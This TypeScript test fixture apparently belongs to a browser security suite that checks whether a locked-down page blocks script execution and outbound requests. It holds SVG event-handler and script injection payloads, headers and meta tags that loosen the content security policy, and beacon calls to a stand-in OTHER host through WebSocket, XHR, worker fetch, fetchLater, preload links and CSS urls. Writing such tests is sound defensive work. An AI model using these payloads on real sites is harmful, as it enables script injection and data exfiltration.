import { EVIL, hit, script } from './locked-site.ts';
import { RUNS, type Attack } from './locked-attacks.ts';

const LOOSE = "script-src * 'unsafe-inline' 'unsafe-eval'; connect-src *";
const kept = (policy: string): Readonly<Record<string, string>> => ({
  'content-security-policy': policy,
  etag: '"1"',
  'cache-control': 'no-cache',
});
const DRAWN = `<svg xmlns="http://www.w3.org/2000/svg" onload="${hit('bad-load')}"><foreignObject>
  <body xmlns="http://www.w3.org/1999/xhtml"><script>${hit('bad-inside')}</script><img src="x:" onerror="${hit('bad-error')}"/></body>
  </foreignObject><set attributeName="x" onbegin="${hit('bad-begin')}"/></svg>`;
const REPORTS = ['embedder', 'opener', 'document', 'permissions', 'integrity', 'default'];

/** Code, by what an answer carries around its page or by a page of another kind. */
const CODE: Readonly<Record<string, Attack>> = {
  'policies in hints, in several lines, in the page and after it, and a browser that is to forget its site': {
    hints: { link: '</evil.js>; rel=preload; as=script', 'content-security-policy': LOOSE },
    headers: { 'clear-site-data': '"cache", "storage", "executionContexts"' },
    lines: [
      ['content-security-policy', LOOSE],
      ['content-security-policy', 'script-src *, img-src *'],
    ],
    trailers: { 'content-security-policy': LOOSE, refresh: '0; url=/evil.js' },
    body: `<meta http-equiv="content-security-policy" content="${LOOSE}"><script>${hit('bad-inline')}</script><script src="/evil.js"></script>`,
    files: { '/evil.js': script(EVIL) },
    asks: ['bad'],
  },
  'a policy that is loosened when a stored page is asked for again (304)': {
    headers: kept("script-src 'none'"),
    later: { status: 304, headers: kept(LOOSE), body: '' },
    body: RUNS,
    asks: ['bad'],
  },
  'a drawing as the page, with a page in it': {
    headers: { 'content-type': 'image/svg+xml' },
    body: DRAWN,
    asks: ['bad-begin', 'bad-error', 'bad-inside', 'bad-load'],
  },
};

/** Data: what is typed, shown, or loaded without any code. */
const DATA: Readonly<Record<string, Attack>> = {
  'links of an answer that load': {
    headers: {
      link: '</hit?bad-module>; rel=modulepreload, <OTHER/hit?bad-prefetch>; rel=prefetch, </hit?bad-font>; rel=preload; as=font; crossorigin, </hit?bad-image>; rel=preload; as=image',
    },
    asks: ['bad-font', 'bad-image', 'bad-module', 'bad-prefetch'],
  },
  'a sheet of another site in a header': {
    headers: { link: '<OTHER/hit?bad-sheet>; rel=stylesheet' },
    asks: ['bad-sheet'],
    idle: { chromium: 'Chromium reads no sheets from headers' },
  },
  icons: {
    body: '<link rel="icon" href="/hit?bad-icon"><link rel="apple-touch-icon" href="/hit?bad-touch">',
    asks: ['bad-icon'],
    idle: { chromium: 'Chromium loads no icons without a window' },
  },
  'a dictionary for later answers of another site': {
    body: '<link rel="compression-dictionary" href="OTHER/hit?bad-dictionary">',
    asks: ['bad-dictionary'],
  },
  'reports that other policies ask for': {
    headers: {
      'reporting-endpoints': REPORTS.map((name) => `${name}="OTHER/hit?bad-report-${name}"`).join(', '),
      'report-to': '{"group":"old","max_age":60,"endpoints":[{"url":"OTHER/hit?bad-report-old"}]}',
      nel: '{"report_to":"old","max_age":60,"success_fraction":1}',
      'cross-origin-embedder-policy-report-only': 'require-corp; report-to="embedder"',
      'cross-origin-opener-policy-report-only': 'same-origin; report-to="opener"',
      'document-policy-report-only': 'document-write=?0; report-to=document',
      'permissions-policy-report-only': 'geolocation=();report-to=permissions',
      'integrity-policy-report-only': 'blocked-destinations=(script), endpoints=(integrity)',
    },
    body: '<script src="/hit?bad-script"></script><img src="OTHER/hit?bad-picture" alt="">',
    code: 'document.write("<p>"); navigator.geolocation.getCurrentPosition(() => 0, () => 0);',
    // Firefox sends reports at once or when the page ends.
    only: 'firefox',
    act: 'setTimeout(() => { location.href = "/gone" }, 300)',
    asks: ['bad-report-integrity'],
  },
  'named code that is made to send to another site, by other means': {
    code: `try { new WebSocket('OTHER/hit?bad-socket'.replace('https', 'wss')).onerror = () => null } catch {}
      const asked = new XMLHttpRequest(); asked.open('GET', 'OTHER/hit?bad-request'); asked.onerror = () => null; try { asked.send() } catch {}
      new Worker(URL.createObjectURL(new Blob(["fetch('OTHER/hit?bad-from-worker', { mode: 'no-cors' }).catch(() => null)"])));
      const sheet = document.createElement('link'); sheet.rel = 'stylesheet'; sheet.href = 'OTHER/hit?bad-link'; document.head.append(sheet)`,
    asks: ['bad-from-worker', 'bad-link', 'bad-request', 'bad-socket'],
  },
  'a request that is made later': {
    code: `try { fetchLater('OTHER/hit?bad-later', { activateAfter: 0 }) } catch {}`,
    asks: ['bad-later'],
    idle: { firefox: 'Firefox has no such requests' },
  },
  'still further properties that fetch': {
    body: `<style>.more { cursor: url(/hit?bad-cursor), auto; background: image-set("/hit?bad-set-text" 1x) } .more q::before { content: url(/hit?bad-quote) }
      .more::first-letter { background: url(/hit?bad-letter) } .more input::placeholder { background: url(/hit?bad-placeholder) }</style>
      <p class="more">x<q>x</q><input placeholder="x"></p>`,
    asks: ['bad-cursor', 'bad-letter', 'bad-placeholder', 'bad-quote', 'bad-set-text'],
  },
  'a page in XML with a sheet of another site': {
    headers: { 'content-type': 'text/xml' },
    body: '<?xml version="1.0"?><?xml-stylesheet type="text/css" href="OTHER/hit?bad-xml-sheet"?><page/>',
    asks: ['bad-xml-sheet'],
  },
};

/** Nothing of these works on a locked page. */
export const ANSWERS = { ...CODE, ...DATA };

/**
 * What works all the same: fixed addresses, which tell nothing that is typed. Hints before the page (103) and dictionaries do, too, but a
 * browser may leave them unread, so nothing is expected of them.
 */
export const OPEN_ANSWERS: Readonly<Record<string, Attack>> = {
  'connections that are opened ahead': {
    headers: { link: '<https://header.ahead.test>; rel=preconnect' },
    body: '<link rel="preconnect" href="https://page.ahead.test">',
    asks: ['header.ahead.test', 'page.ahead.test'],
    idle: { firefox: 'Firefox opens none through a proxy' },
  },
};
